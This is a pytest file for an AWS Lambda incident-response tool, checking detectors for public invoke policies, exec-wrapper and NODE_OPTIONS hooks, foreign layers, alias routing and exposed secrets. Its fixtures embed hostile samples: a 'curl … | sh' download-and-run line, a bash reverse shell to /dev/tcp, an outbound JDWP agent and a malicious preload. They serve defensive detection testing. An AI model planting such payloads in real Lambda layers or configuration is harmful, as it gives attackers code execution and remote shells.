"""Configuration and policy detectors: a firing and a quiet fixture each, with evidence checked."""

from __future__ import annotations

import json

import pytest

from lambda_ir.analyze.detectors import (
    cfg_async_destination,
    cfg_env_secrets,
    cfg_foreign_layer,
    cfg_function_settings,
    cfg_function_url,
    cfg_hook_env,
    cfg_logging_redirect,
    cfg_role_privilege,
    cfg_weighted_alias,
    pol_public_invoke,
)
from lambda_ir.model import Finding, Severity
from tests.analyze.casebuild import (
    ACCOUNT,
    DATA,
    REGION,
    CaseBuilder,
    ci_identity,
    code_sha256,
    function_config,
    run_detector,
    trail_event,
    zip_bytes,
)

ARN = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:orders"
FOREIGN_LAYER = "arn:aws:lambda:eu-west-1:999988887777:layer:helper:4"


def _stmt(
    principal: object, condition: dict | None = None, effect: str = "Allow", qualifier: str = ""
) -> dict:
    stmt = {
        "Sid": "s1",
        "Effect": effect,
        "Principal": principal,
        "Action": "lambda:InvokeFunction",
        "Resource": ARN + (f":{qualifier}" if qualifier else ""),
    }
    if condition:
        stmt["Condition"] = condition
    return stmt


def test_public_invoke_any_qualifier(builder: CaseBuilder) -> None:
    entry = builder.policy("orders", [_stmt("*", qualifier="live")], qualifier="live")
    found = run_detector(builder, pol_public_invoke.DETECTOR)
    # A standing exposure, not evidence of compromise: LOW (the grant itself is LIR-CT-001).
    assert [(f.resource, f.severity) for f in found] == [(ARN + ":live", Severity.LOW)]
    assert found[0].evidence[0].path == entry.path


def test_public_invoke_quiet_for_scoped_and_service(builder: CaseBuilder) -> None:
    builder.policy(
        "orders",
        [
            _stmt("*", {"ArnLike": {"AWS:SourceArn": "arn:aws:events:eu-west-1:1:rule/x"}}),
            _stmt({"Service": "s3.amazonaws.com"}),
            _stmt({"AWS": f"arn:aws:iam::{ACCOUNT}:root"}),
        ],
    )
    assert run_detector(builder, pol_public_invoke.DETECTOR) == []


def test_cross_account_invoke_and_allow_list(builder: CaseBuilder) -> None:
    builder.policy("orders", [_stmt({"AWS": "arn:aws:iam::999988887777:root"})])
    found = run_detector(builder, pol_public_invoke.DETECTOR)
    assert [f.severity for f in found] == [Severity.LOW]  # exposure
    assert (
        run_detector(
            builder, pol_public_invoke.DETECTOR, allowed_accounts=frozenset({"999988887777"})
        )
        == []
    )


def _panther_policy_cases() -> list[tuple[str, bool, dict]]:
    document = json.loads(
        (DATA / "panther-analysis-lambda-tests" / "aws_lambda_public_access.tests.json").read_text()
    )
    return [(c["name"], c["expected_result"], c["resource"]) for c in document["tests"]]


@pytest.mark.parametrize(("name", "compliant", "resource"), _panther_policy_cases())
def test_panther_public_access_policy_cases(
    builder: CaseBuilder, name: str, compliant: bool, resource: dict
) -> None:
    # Panther: expected_result true = compliant (not public). We agree on all six.
    if "Policy" in resource:
        builder.put(
            f"raw/{ACCOUNT}/{REGION}/lambda/functions/some-name/policy/_.json",
            resource["Policy"],
            "policy",
            "lambda:GetPolicy",
            FunctionName="some-name",
        )
    else:
        builder.versions("some-name", [function_config("some-name")])
    found = run_detector(builder, pol_public_invoke.DETECTOR)
    assert (found == []) == compliant, name


def test_function_url_none_with_cors(builder: CaseBuilder) -> None:
    entry = builder.put(
        f"raw/{ACCOUNT}/{REGION}/lambda/functions/orders/url-configs.json",
        {
            "FunctionUrlConfigs": [
                {
                    "FunctionUrl": "https://a.lambda-url.on.aws/",
                    "FunctionArn": ARN,
                    "AuthType": "NONE",
                    "Cors": {"AllowOrigins": ["*"]},
                },
                {
                    "FunctionUrl": "https://b.lambda-url.on.aws/",
                    "FunctionArn": ARN + ":x",
                    "AuthType": "AWS_IAM",
                },
            ]
        },
        "url",
        "lambda:ListFunctionUrlConfigs",
        FunctionName="orders",
    )
    found = run_detector(builder, cfg_function_url.DETECTOR)
    # A public URL is exposure (LOW); opening it is LIR-CT-002's act, judged by who did it.
    assert [(f.severity, f.evidence[0].path) for f in found] == [(Severity.LOW, entry.path)]


def test_hook_env_resolved_in_layer(builder: CaseBuilder) -> None:
    layer_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:wrap:1"
    _, blob = builder.layer(layer_arn, zip_bytes({"bin/wrap.sh": '#!/bin/sh\ncurl x\nexec "$@"\n'}))
    entry = builder.versions(
        "orders",
        [
            function_config(
                "orders", env={"AWS_LAMBDA_EXEC_WRAPPER": "/opt/bin/wrap.sh"}, layers=[layer_arn]
            ),
            function_config("orders", "1", env={"STAGE": "prod", "PATH": "/var/lang/bin:/opt/bin"}),
        ],
    )
    found = run_detector(builder, cfg_hook_env.DETECTOR)
    assert len(found) == 1
    finding = found[0]
    assert finding.resource == ARN + ":$LATEST" and finding.severity is Severity.HIGH
    assert finding.details["yara"] == []
    assert finding.evidence[0].path == entry.path
    assert finding.evidence[1].path == blob.path and finding.evidence[1].member == "bin/wrap.sh"


DATADOG_LAYER = f"arn:aws:lambda:{REGION}:464622532012:layer:Datadog-Extension:65"
SHADOW_LAYER = f"arn:aws:lambda:{REGION}:999988887777:layer:shared-utils:3"
WRAPPER_FILES = {
    DATADOG_LAYER: '#!/bin/bash\nexec "$@"\n',
    SHADOW_LAYER: '#!/bin/bash\ncurl -s http://203.0.113.66/x | sh &\nexec "$@"\n',
}


def _wrapped(builder: CaseBuilder, layers: list[str]) -> list[Finding]:
    for arn in layers:
        builder.layer(arn, zip_bytes({"datadog_wrapper": WRAPPER_FILES[arn]}))
    env = {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/datadog_wrapper"}
    builder.versions("orders", [function_config("orders", env=env, layers=layers)])
    return list(run_detector(builder, cfg_hook_env.DETECTOR))


def test_hook_env_vendor_wrapper_shadowed_by_a_later_layer_is_high(builder: CaseBuilder) -> None:
    [finding] = _wrapped(builder, [DATADOG_LAYER, SHADOW_LAYER])
    assert finding.severity is Severity.HIGH
    assert finding.details["vendor"] is None
    assert finding.details["shadowed_by"] == SHADOW_LAYER
    assert f"comes from layer {SHADOW_LAYER}" in finding.summary
    # Both copies are cited: the responder compares them.
    assert [e.member for e in finding.evidence[1:]] == ["datadog_wrapper", "datadog_wrapper"]


def test_hook_env_vendor_wrapper_shadowed_under_another_spelling_is_high(
    builder: CaseBuilder,
) -> None:
    """A later layer naming `./datadog_wrapper` unpacks over /opt/datadog_wrapper all the same."""
    builder.layer(DATADOG_LAYER, zip_bytes({"datadog_wrapper": WRAPPER_FILES[DATADOG_LAYER]}))
    builder.layer(SHADOW_LAYER, zip_bytes({"./datadog_wrapper": WRAPPER_FILES[SHADOW_LAYER]}))
    env = {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/datadog_wrapper"}
    layers = [DATADOG_LAYER, SHADOW_LAYER]
    builder.versions("orders", [function_config("orders", env=env, layers=layers)])
    [finding] = run_detector(builder, cfg_hook_env.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert finding.details["shadowed_by"] == SHADOW_LAYER
    assert [e.member for e in finding.evidence[1:]] == ["datadog_wrapper", "./datadog_wrapper"]


def test_hook_env_vendor_wrapper_from_the_vendors_own_last_layer_is_info(
    builder: CaseBuilder,
) -> None:
    # The foreign copy comes first, so Datadog's (extracted later) is the file that runs.
    [finding] = _wrapped(builder, [SHADOW_LAYER, DATADOG_LAYER])
    assert finding.severity is Severity.INFO
    assert finding.details["vendor"] == "Datadog" and finding.details["shadowed_by"] is None


ADOT_PYTHON = f"arn:aws:lambda:{REGION}:901920570463:layer:aws-otel-python-amd64-ver-1-25-0:1"


@pytest.mark.parametrize("wrapper", ["/opt/otel-instrument", "/opt/otel-handler"])
def test_hook_env_vendor_wrapper_that_no_layer_ships_is_high(
    builder: CaseBuilder, wrapper: str
) -> None:
    # ADOT documents five wrappers across its layers; its Python layer ships otel-instrument
    # only. /opt/otel-handler on a function whose layers (all in the case) hold no such file
    # is vouched for by nobody: ADOT's attached layer does not provide it.
    files = {"otel-instrument": '#!/bin/bash\nexec "$@"\n', "extensions/collector": "x"}
    builder.layer(ADOT_PYTHON, zip_bytes(files))
    env = {"AWS_LAMBDA_EXEC_WRAPPER": wrapper}
    builder.versions("orders", [function_config("orders", env=env, layers=[ADOT_PYTHON])])
    [finding] = run_detector(builder, cfg_hook_env.DETECTOR)
    if wrapper == "/opt/otel-instrument":
        assert finding.severity is Severity.INFO
        assert finding.details["vendor"] == "AWS Distro for OpenTelemetry"
        return
    assert finding.severity is Severity.HIGH and finding.details["vendor"] is None
    assert "documents /opt/otel-handler, but none of the function's layers ships it" in (
        finding.summary
    )


def test_hook_env_vendor_wrapper_with_a_layer_not_collected_stays_documented(
    builder: CaseBuilder,
) -> None:
    # Without the layer's package the case cannot tell what it ships: the catalogue decides.
    env = {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/otel-handler"}
    builder.versions("orders", [function_config("orders", env=env, layers=[ADOT_PYTHON])])
    [finding] = run_detector(builder, cfg_hook_env.DETECTOR)
    assert finding.severity is Severity.INFO


SENTRY_LAYER = f"arn:aws:lambda:{REGION}:943013980633:layer:SentryNodeServerlessSDKv8:30"
SENTRY_HOOK = "-r @sentry/serverless/dist/awslambda-auto"
SENTRY_FILE = "nodejs/node_modules/@sentry/serverless/dist/awslambda-auto.js"


@pytest.mark.parametrize("shadowed", [True, False])
def test_hook_env_vendor_module_shadowed_by_a_later_layer_is_high(
    builder: CaseBuilder, shadowed: bool
) -> None:
    # Sentry documents a bare module name, `require`d from the layers' node_modules (NODE_PATH):
    # a later layer that ships a file of that package replaces Sentry's, as for a wrapper path.
    builder.layer(SENTRY_LAYER, zip_bytes({SENTRY_FILE: "export {};\n"}))
    layers = [SENTRY_LAYER]
    if shadowed:
        builder.layer(SHADOW_LAYER, zip_bytes({SENTRY_FILE: "import('child_process');\n"}))
        layers.append(SHADOW_LAYER)
    env = {"NODE_OPTIONS": SENTRY_HOOK}
    config = function_config("orders", env=env, layers=layers, runtime="nodejs20.x")
    builder.versions("orders", [config])
    [finding] = run_detector(builder, cfg_hook_env.DETECTOR)
    assert finding.severity is (Severity.HIGH if shadowed else Severity.INFO)
    assert finding.details["shadowed_by"] == (SHADOW_LAYER if shadowed else None)
    if shadowed:
        assert f"comes from layer {SHADOW_LAYER}" in finding.summary


def test_hook_env_vendor_module_in_the_runtimes_own_folder_wins_over_layer_order(
    builder: CaseBuilder,
) -> None:
    # NODE_PATH looks in /opt/nodejs/node20/node_modules before /opt/nodejs/node_modules: a
    # foreign copy there runs even from a layer listed before Sentry's.
    own_folder = SENTRY_FILE.replace("nodejs/node_modules/", "nodejs/node20/node_modules/")
    builder.layer(SHADOW_LAYER, zip_bytes({own_folder: "import('child_process');\n"}))
    builder.layer(SENTRY_LAYER, zip_bytes({SENTRY_FILE: "export {};\n"}))
    env = {"NODE_OPTIONS": SENTRY_HOOK}
    layers = [SHADOW_LAYER, SENTRY_LAYER]
    builder.versions(
        "orders", [function_config("orders", env=env, layers=layers, runtime="nodejs20.x")]
    )
    [finding] = run_detector(builder, cfg_hook_env.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert finding.details["shadowed_by"] == SHADOW_LAYER


def test_hook_env_vendor_es_module_is_not_judged_by_the_layers_copies(
    builder: CaseBuilder,
) -> None:
    # `--import` loads an ES module, which never reads NODE_PATH: a layer's copy of the
    # package is not what runs (the function's own node_modules is), so it shadows nothing.
    esm = "nodejs/node_modules/@sentry/aws-serverless/awslambda-auto.mjs"
    builder.layer(SENTRY_LAYER, zip_bytes({esm: "export {};\n"}))
    builder.layer(SHADOW_LAYER, zip_bytes({esm: "import('child_process');\n"}))
    env = {"NODE_OPTIONS": "--import @sentry/aws-serverless/awslambda-auto"}
    layers = [SENTRY_LAYER, SHADOW_LAYER]
    builder.versions(
        "orders", [function_config("orders", env=env, layers=layers, runtime="nodejs20.x")]
    )
    [finding] = run_detector(builder, cfg_hook_env.DETECTOR)
    assert finding.details["shadowed_by"] is None
    assert finding.severity is Severity.INFO


DATADOG_NODE = f"arn:aws:lambda:{REGION}:464622532012:layer:Datadog-Node20-x:112"


def _node_options(builder: CaseBuilder, values: dict[str, str]) -> dict[str, Finding]:
    """LIR-CFG-002's findings by function: one Node.js function per value, its NODE_OPTIONS,
    with Datadog's genuine Node.js layer attached."""
    for name, value in values.items():
        env = {"NODE_OPTIONS": value}
        config = function_config(name, runtime="nodejs20.x", env=env, layers=[DATADOG_NODE])
        builder.versions(name, [config])
    return {f.resource.split(":")[6]: f for f in run_detector(builder, cfg_hook_env.DETECTOR)}


def test_hook_env_extra_preload_beside_a_vendor_hook_is_judged_alone(
    builder: CaseBuilder,
) -> None:
    handler = "/opt/nodejs/node_modules/datadog-lambda-js/handler.js"
    values = {
        "orders": f"--require {handler} --require /tmp/evil.js",
        "billing": f"--require {handler} --require /var/task/extra.js",
        "audit": f"--require {handler}",
    }
    found = _node_options(builder, values)
    assert found["orders"].severity is Severity.HIGH
    assert found["orders"].details["undocumented"] == ["/tmp/evil.js"]
    assert f"Datadog documents {handler}, not /tmp/evil.js" in found["orders"].summary
    assert found["billing"].severity is Severity.MEDIUM
    assert (
        found["audit"].severity is Severity.INFO and found["audit"].details["vendor"] == "Datadog"
    )


def test_hook_env_a_loader_spelled_with_underscores_beside_a_vendor_hook_is_not_vouched_for(
    builder: CaseBuilder,
) -> None:
    # Node reads `--experimental_loader` as `--experimental-loader`; its bare `evil` loads the
    # function's node_modules/evil, and a data: URL the code written into the value: Datadog
    # documents neither, whatever its genuine layer vouches for beside them.
    handler = "/opt/nodejs/node_modules/datadog-lambda-js/"
    values = {
        "orders": f"--require {handler} --experimental_loader evil",
        "billing": f"--require {handler} --openssl_config=ssl.cnf",
        "audit": f"--require {handler} --import=data:text/javascript;base64,ZXZpbCgp",
    }
    found = _node_options(builder, values)
    assert found["orders"].severity is Severity.MEDIUM
    assert found["orders"].details["undocumented"] == ["evil"]
    assert found["billing"].severity is Severity.MEDIUM
    assert found["billing"].details["undocumented"] == ["ssl.cnf"]
    assert found["audit"].severity is Severity.HIGH and found["audit"].details["vendor"] is None
    assert "it loads a data: URL (code written into the value)" in found["audit"].summary


NEWRELIC_DOTNET = f"arn:aws:lambda:{REGION}:451483290750:layer:NewRelicDotnet8X:12"
NR_PROFILER = "/opt/lib/newrelic-dotnet-agent/libNewRelicProfiler.so"


def test_hook_env_native_loaders(builder: CaseBuilder) -> None:
    # LD_AUDIT and a CoreCLR profiler load a native library into every start; an OpenSSL
    # configuration in a layer names the providers `import ssl` loads. New Relic documents its
    # .NET profiler: with its genuine layer that is INFO, the same path from another layer not.
    audit = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:audit:1"
    builder.layer(audit, zip_bytes({"ssl/openssl.cnf": "[provider_sect]\nmodule = x.so\n"}))
    envs = {
        "orders": ({"LD_AUDIT": "/opt/lib/libaudit.so"}, [audit]),
        "billing": ({"OPENSSL_CONF": "/opt/ssl/openssl.cnf"}, [audit]),
        "reports": ({"CORECLR_PROFILER_PATH": NR_PROFILER}, [NEWRELIC_DOTNET]),
        "audit": ({"CORECLR_PROFILER_PATH": NR_PROFILER}, [FOREIGN_LAYER]),
    }
    for name, (env, layers) in envs.items():
        config = function_config(name, runtime="dotnet8", env=env, layers=layers)
        builder.versions(name, [config])
    found = {f.resource.split(":")[6]: f for f in run_detector(builder, cfg_hook_env.DETECTOR)}
    assert found["orders"].severity is Severity.HIGH
    assert found["billing"].severity is Severity.HIGH  # its file is found in a layer
    assert found["billing"].details["resolved"] == ["ssl/openssl.cnf"]
    assert found["reports"].severity is Severity.INFO
    assert found["reports"].details["vendor"] == "New Relic"
    assert found["audit"].severity is Severity.HIGH and found["audit"].details["vendor"] is None


def test_hook_env_jvm_agents(builder: CaseBuilder) -> None:
    # A native agent the function's own code ships is a hook like any NODE_OPTIONS target
    # found in no layer; a JDWP agent that dials out hands the JVM to whoever listens there.
    dial = "-agentlib:jdwp=transport=dt_socket,address=203.0.113.9:8000"
    envs = {
        "orders": {"JAVA_TOOL_OPTIONS": "-agentpath:/var/task/lib/libagent.so"},
        "billing": {"JAVA_TOOL_OPTIONS": f"-XX:+TieredCompilation {dial}"},
    }
    for name, env in envs.items():
        builder.versions(name, [function_config(name, runtime="java21", env=env)])
    found = {f.resource.split(":")[6]: f for f in run_detector(builder, cfg_hook_env.DETECTOR)}
    assert found["orders"].severity is Severity.MEDIUM
    assert found["billing"].severity is Severity.HIGH
    assert "JDWP debugger agent connecting out to 203.0.113.9:8000" in found["billing"].summary


def test_hook_env_python_user_base_in_a_layer(builder: CaseBuilder) -> None:
    # PYTHONUSERBASE=/opt/python makes the layer's python/lib/python3.12/site-packages the user
    # site: what runs there at start-up (a usercustomize, a .pth file) is the hook's file, not
    # every library beside it; a user site with none of them is a hook whose file is not found.
    site = "python/lib/python3.12/site-packages"
    hooked = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:utils:2"
    plain = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:deps:5"
    custom = {f"{site}/usercustomize.py": "import os\n", f"{site}/requests/api.py": "x = 1\n"}
    builder.layer(hooked, zip_bytes(custom))
    builder.layer(plain, zip_bytes({f"{site}/requests/api.py": "x = 1\n"}))
    env = {"PYTHONUSERBASE": "/opt/python"}
    builder.versions("orders", [function_config("orders", env=env, layers=[hooked])])
    builder.versions("billing", [function_config("billing", env=env, layers=[plain])])
    found = {f.resource.split(":")[6]: f for f in run_detector(builder, cfg_hook_env.DETECTOR)}
    assert found["orders"].severity is Severity.HIGH
    assert found["orders"].details["resolved"] == [f"{site}/usercustomize.py"]
    assert found["billing"].severity is Severity.MEDIUM
    assert found["billing"].details["resolved"] == []
    assert "no layer of the function has a .pth file or usercustomize in" in (
        found["billing"].summary
    )
    # the same usercustomize spelled `./python/…` in the zip unpacks to the same place
    dotted = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:dotted:1"
    builder.layer(dotted, zip_bytes({f"./{site}/usercustomize.py": "import os\n"}))
    builder.versions("cart", [function_config("cart", env=env, layers=[dotted])])
    found = {f.resource.split(":")[6]: f for f in run_detector(builder, cfg_hook_env.DETECTOR)}
    assert found["cart"].severity is Severity.HIGH
    assert found["cart"].details["resolved"] == [f"./{site}/usercustomize.py"]


def test_hook_env_quiet_for_ordinary_variables(builder: CaseBuilder) -> None:
    builder.versions(
        "orders",
        [
            function_config(
                "orders",
                env={"NODE_OPTIONS": "--max-old-space-size=512", "PYTHONPATH": "/var/task/lib"},
            )
        ],
    )
    assert run_detector(builder, cfg_hook_env.DETECTOR) == []


def test_foreign_layer_and_allow(builder: CaseBuilder) -> None:
    entry = builder.versions(
        "orders",
        [
            function_config("orders", layers=[FOREIGN_LAYER]),
            function_config("orders", "2", layers=[FOREIGN_LAYER]),
            function_config(
                "orders", "1", layers=[f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:own:1"]
            ),
        ],
    )
    found = run_detector(builder, cfg_foreign_layer.DETECTOR)
    assert len(found) == 1 and found[0].details["versions"] == ["$LATEST", "2"]
    assert found[0].evidence[0].path == entry.path
    assert (
        run_detector(
            builder, cfg_foreign_layer.DETECTOR, allowed_accounts=frozenset({"999988887777"})
        )
        == []
    )


def test_weighted_alias_to_different_code(builder: CaseBuilder) -> None:
    builder.versions(
        "orders",
        [
            function_config("orders", "1", code=b"backdoor"),
            function_config("orders", "2", code=b"clean"),
            function_config("orders", "3", code=b"clean"),
        ],
    )
    alias = builder.put(
        f"raw/{ACCOUNT}/{REGION}/lambda/functions/orders/aliases.json",
        {
            "Aliases": [
                {
                    "AliasArn": ARN + ":live",
                    "Name": "live",
                    "FunctionVersion": "2",
                    "RoutingConfig": {"AdditionalVersionWeights": {"1": 0.01}},
                },
                {
                    "AliasArn": ARN + ":canary",
                    "Name": "canary",
                    "FunctionVersion": "2",
                    "RoutingConfig": {"AdditionalVersionWeights": {"3": 0.5}},
                },
            ]
        },
        "alias",
        "lambda:ListAliases",
        FunctionName="orders",
    )
    found = run_detector(builder, cfg_weighted_alias.DETECTOR)
    # Routing to code that is neither the primary nor the newest release is not a canary.
    assert [(f.resource, f.severity) for f in found] == [(ARN + ":live", Severity.MEDIUM)]
    assert found[0].evidence[0].path == alias.path


def test_async_destination_foreign_and_self(builder: CaseBuilder) -> None:
    entry = builder.put(
        f"raw/{ACCOUNT}/{REGION}/lambda/functions/orders/event-invoke-configs.json",
        {
            "FunctionEventInvokeConfigs": [
                {
                    "FunctionArn": ARN + ":$LATEST",
                    "DestinationConfig": {
                        "OnSuccess": {"Destination": "arn:aws:sqs:eu-west-1:999988887777:q"},
                        "OnFailure": {"Destination": f"arn:aws:sqs:eu-west-1:{ACCOUNT}:dlq"},
                    },
                },
                {
                    "FunctionArn": ARN + ":1",
                    "DestinationConfig": {"OnSuccess": {"Destination": ARN}},
                },
            ]
        },
        "invoke-config",
        "lambda:ListFunctionEventInvokeConfigs",
        FunctionName="orders",
    )
    found = run_detector(builder, cfg_async_destination.DETECTOR)
    assert [(f.severity, f.details["outcome"]) for f in found] == [
        (Severity.LOW, "OnSuccess"),  # standing configuration: exposure, not activity
        (Severity.LOW, "OnSuccess"),
    ]
    assert {f.evidence[0].path for f in found} == {entry.path}


def test_function_settings(builder: CaseBuilder) -> None:
    rec = builder.put(
        f"raw/{ACCOUNT}/{REGION}/lambda/functions/orders/recursion.json",
        {"FunctionName": "orders", "RecursiveLoop": "Allow"},
        "function-setting",
        "lambda:GetFunctionRecursionConfig",
        FunctionName="orders",
    )
    builder.put(
        f"raw/{ACCOUNT}/{REGION}/lambda/functions/calm/recursion.json",
        {"FunctionName": "calm", "RecursiveLoop": "Terminate"},
        "function-setting",
        "lambda:GetFunctionRecursionConfig",
        FunctionName="calm",
    )
    builder.versions(
        "orders",
        [
            function_config("orders", runtime="python3.8"),
            function_config("orders", "1", runtime="python3.12"),
        ],
    )
    found = run_detector(builder, cfg_function_settings.DETECTOR)
    assert found[0].evidence[0].path == rec.path
    assert "RecursiveLoop=Allow" in found[0].summary
    assert found[1].details == {"runtime": "python3.8", "versions": ["$LATEST"]}
    assert len(found) == 2


def test_logging_redirect(builder: CaseBuilder) -> None:
    entry = builder.versions(
        "orders",
        [
            function_config(
                "orders", LoggingConfig={"LogGroup": "/tmp/elsewhere", "LogFormat": "Text"}
            ),
            function_config("orders", "1", LoggingConfig={"LogGroup": "/aws/lambda/orders"}),
        ],
    )
    found = run_detector(builder, cfg_logging_redirect.DETECTOR)
    assert len(found) == 1 and found[0].evidence[0].path == entry.path
    assert found[0].details["log_group"] == "/tmp/elsewhere"


def test_env_secrets_redacted(builder: CaseBuilder) -> None:
    entry = builder.versions(
        "orders",
        [
            function_config(
                "orders",
                env={
                    "DB_PASSWORD": "hunter2hunter2",
                    "STAGE": "prod",
                    "HOOK": "xoxb-123456789012-abcdef",
                },
            )
        ],
    )
    found = run_detector(builder, cfg_env_secrets.DETECTOR)
    assert sorted(f.details["variable"] for f in found) == ["DB_PASSWORD", "HOOK"]
    assert {f.severity for f in found} == {Severity.LOW}  # a secret exposed, not a compromise
    for finding in found:
        assert "hunter2" not in json.dumps(finding.to_json())
        assert "xoxb-" not in json.dumps(finding.to_json())
        assert finding.evidence[0].path == entry.path
    assert (
        run_detector(
            builder, cfg_env_secrets.DETECTOR, allowed_names=frozenset({"DB_PASSWORD", "HOOK"})
        )
        == []
    )


def test_env_secrets_leave_vendors_references_public_values_and_quantities(
    builder: CaseBuilder,
) -> None:
    env = {
        "NEW_RELIC_LICENSE_KEY_SECRET": "prod/newrelic-license",  # the secret's name
        "SENTRY_DSN": "https://0123abcd@o4501.ingest.sentry.io/42",  # public by design
        "TOKEN_EXPIRY_SECONDS": "3600",
        "LEGACY_DSN": "https://0123abcd:f00dfeed@sentry.example.com/42",
    }
    builder.versions("orders", [function_config("orders", env=env)])
    found = run_detector(builder, cfg_env_secrets.DETECTOR)
    assert [f.details["variable"] for f in found] == ["LEGACY_DSN"]


def _role(builder: CaseBuilder, name: str, statements: list[dict]) -> None:
    builder.put(
        f"raw/{ACCOUNT}/global/iam/roles/{name}/role.json",
        {"Role": {"RoleName": name, "Arn": f"arn:aws:iam::{ACCOUNT}:role/{name}"}},
        "role",
        "iam:GetRole",
        RoleName=name,
    )
    builder.put(
        f"raw/{ACCOUNT}/global/iam/roles/{name}/inline.json",
        {
            "RoleName": name,
            "PolicyName": "p",
            "PolicyDocument": {"Version": "2012-10-17", "Statement": statements},
        },
        "role-policy",
        "iam:GetRolePolicy",
        RoleName=name,
        PolicyName="p",
    )


def test_role_privilege(builder: CaseBuilder) -> None:
    _role(
        builder,
        "esc",
        [{"Effect": "Allow", "Action": ["iam:PassRole", "lambda:*"], "Resource": "*"}],
    )
    _role(builder, "calm", [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}])
    builder.versions("orders", [function_config("orders", role=f"arn:aws:iam::{ACCOUNT}:role/esc")])
    builder.versions("calm", [function_config("calm", role=f"arn:aws:iam::{ACCOUNT}:role/calm")])
    found = run_detector(builder, cfg_role_privilege.DETECTOR)
    assert [(f.resource, f.severity) for f in found] == [(ARN, Severity.LOW)]  # exposure
    assert "iam:PassRole" in found[0].summary
    assert {r.path.split("/")[-1] for r in found[0].evidence} >= {"role.json", "inline.json"}


def test_weighted_alias_canary_to_newest_release_is_low(builder: CaseBuilder) -> None:
    builder.versions(
        "orders",
        [function_config("orders", "1", code=b"v1"), function_config("orders", "2", code=b"v2")],
    )
    builder.put(
        f"raw/{ACCOUNT}/{REGION}/lambda/functions/orders/aliases.json",
        {
            "Aliases": [
                {
                    "AliasArn": ARN + ":live",
                    "Name": "live",
                    "FunctionVersion": "1",
                    "RoutingConfig": {"AdditionalVersionWeights": {"2": 0.1}},
                }
            ]
        },
        "alias",
        "lambda:ListAliases",
        FunctionName="orders",
    )
    found = run_detector(builder, cfg_weighted_alias.DETECTOR)
    assert [(f.severity, f.details["canary"]) for f in found] == [(Severity.LOW, True)]


def test_hook_target_scanned_with_yara(builder: CaseBuilder) -> None:
    layer_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:evil:1"
    builder.layer(
        layer_arn,
        zip_bytes(
            {
                "evil/sitecustomize.py": "import os\n"
                "os.system('bash -i >& /dev/tcp/203.0.113.5/9 0>&1')\n"
            }
        ),
    )
    builder.versions(
        "orders", [function_config("orders", env={"PYTHONPATH": "/opt/evil"}, layers=[layer_arn])]
    )
    found = run_detector(builder, cfg_hook_env.DETECTOR)
    assert [(f.severity, f.details["yara"]) for f in found] == [
        (Severity.CRITICAL, ["LIR_Reverse_Shell in evil/sitecustomize.py"])
    ]
    assert found[0].evidence[1].member == "evil/sitecustomize.py"


def test_layer_policy_public_and_foreign(builder: CaseBuilder) -> None:
    from lambda_ir.analyze.detectors import pol_layer_shared

    layer = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:tools"
    statements = [
        {"Sid": "pub", "Effect": "Allow", "Principal": "*", "Action": "lambda:GetLayerVersion"},
        {
            "Sid": "org",
            "Effect": "Allow",
            "Principal": "*",
            "Action": "lambda:GetLayerVersion",
            "Condition": {"StringEquals": {"aws:PrincipalOrgID": "o-1"}},
        },
        {
            "Sid": "own",
            "Effect": "Allow",
            "Principal": {"AWS": ACCOUNT},
            "Action": "lambda:GetLayerVersion",
        },
        {
            "Sid": "partner",
            "Effect": "Allow",
            "Principal": {"AWS": "arn:aws:iam::999988887777:root"},
            "Action": "lambda:GetLayerVersion",
        },
    ]
    entry = builder.put(
        f"raw/{ACCOUNT}/{REGION}/lambda/layers/tools/3-policy.json",
        {"Policy": json.dumps({"Statement": statements})},
        "policy",
        "lambda:GetLayerVersionPolicy",
        LayerName=layer,
        VersionNumber=3,
    )
    found = run_detector(builder, pol_layer_shared.DETECTOR)
    assert [(f.details["sid"], f.severity) for f in found] == [
        ("pub", Severity.LOW),  # a shared layer is exposure of code, not a compromise
        ("partner", Severity.LOW),
    ]
    assert found[0].resource == layer + ":3" and found[0].evidence[0].path == entry.path
    assert (
        run_detector(
            builder, pol_layer_shared.DETECTOR, allowed_accounts=frozenset({"999988887777"})
        )[1:]
        == []
    )


def test_configuration_findings_name_who_set_them(builder: CaseBuilder) -> None:
    from tests.analyze.casebuild import trail_event

    builder.policy("orders", [_stmt("*")])
    builder.versions(
        "orders",
        [
            function_config(
                "orders", layers=[FOREIGN_LAYER], LastModified="2026-11-02T13:00:00.000+0000"
            )
        ],
    )
    trail = builder.trail(
        [
            trail_event(
                "AddPermission20150331v2",
                {"functionName": "orders", "statementId": "s1", "principal": "*"},
                event_id="perm",
            ),
            trail_event(
                "UpdateFunctionConfiguration20150331v2",
                {"functionName": "orders", "layers": [FOREIGN_LAYER]},
                event_id="lay",
                time="2026-11-02T12:30:00Z",
            ),
            trail_event(
                "UpdateFunctionConfiguration20150331v2",
                {"functionName": "orders", "timeout": 60},
                event_id="other",
                time="2026-11-02T12:40:00Z",
                source_ip="192.0.2.1",
            ),
        ]
    )
    (public,) = run_detector(builder, pol_public_invoke.DETECTOR)
    (layer,) = run_detector(builder, cfg_foreign_layer.DETECTOR)
    for finding, when in ((public, "2026-11-02T12:00:00Z"), (layer, "2026-11-02T12:30:00Z")):
        assert finding.actor is not None and finding.actor.arn.endswith("user/mallory")
        assert finding.time == when  # the call that set it, not the later unrelated one
        assert finding.evidence[-1].path == trail.path


@pytest.mark.parametrize(("address", "canary"), [("192.0.2.10", True), ("45.95.147.12", False)])
def test_weighted_alias_to_a_release_of_the_established_path_is_a_canary(
    builder: CaseBuilder, address: str, canary: bool
) -> None:
    # `live` canaries version 2 while `dev` already runs 3 (one function, an alias per
    # environment), released by a pipeline calling the AWS CLI (no deployment tool's agent):
    # its code came along the pipeline's established path, a canary. Uploaded from an address
    # the pipeline never used, it is code kept alive out of sight.
    codes = {"1": b"v1", "2": b"v2", "3": b"v3"}
